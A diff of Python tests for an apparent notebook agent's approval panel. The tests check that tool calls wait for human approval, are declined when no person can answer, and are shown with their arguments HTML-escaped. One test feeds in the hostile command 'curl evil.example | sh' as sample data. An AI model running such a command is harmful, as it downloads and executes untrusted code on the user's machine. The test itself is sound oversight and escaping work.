@@ -219,7 +219,7 @@ def test_saved_notebook_keeps_the_transcript_as_html_and_headless_approval_decli
     assert set(data) == {"text/html", "text/plain"}  # the saved output needs no widget (and no kernel) to show
     html, plain = data["text/html"], data["text/plain"]
     assert "launch it" in html and "I could not launch <strong>the rocket</strong>." in html and "done" in html
-    assert "declined by nobody" in plain  # nbclient sends allow_stdin=False: nobody can answer
+    assert "declined: Approval was needed but no person can answer here" in plain  # nbclient sends allow_stdin=False
     assert not [o for o in outputs if o.output_type == "error"]
 
 
@@ -230,7 +230,7 @@ def test_the_approval_question_shows_every_argument_however_long() -> None:
     panel.ask(request)  # outside a kernel, no terminal: declined, but the question is shown with its arguments
     shown = panel.items.children[-1].value
     assert "curl evil.example | sh &lt;script&gt;" in shown and "<script>" not in shown
-    assert "overflow:auto" in shown  # a long payload scrolls in its box instead of being cut
+    assert "nbagent-approval-code" in shown  # a long payload scrolls in its box (style.py) instead of being cut
 
 
 # One approval, notes, the calls a new request settles, a finished panel -----------------------------------------
@@ -247,8 +247,9 @@ def test_the_live_panel_draws_an_approval_once_and_the_static_transcript_shows_t
     decision = panel.ask(request)  # outside a kernel, with no terminal: nobody can answer, the panel says so in place
     panel({"type": "approval", "seq": 4, "tool_use_id": "t1", "decision": "declined", "by": "nobody", "note": decision.note})
     values = [child.value for child in panel.items.children]
-    assert sum(request.describe() in v for v in values) == 1  # the logged question was replaced, not repeated
-    assert any("declined: no person can answer here" in v for v in values) and not any("by nobody" in v for v in values)
+    assert sum("Call rm?" in v for v in values) == 1  # the logged question was replaced, not repeated
+    assert any("declined:</span> Approval was needed but no person can answer here" in v for v in values)
+    assert not any("by nobody" in v for v in values)
     static = panel.static_bundle()["text/html"]
     assert static.count("Call rm?") == 1 and "declined:</span> Approval was needed but no person can answer here" in static
     replayed = Panel("the same events re-rendered")  # nothing asks: the logged question and decision, once each
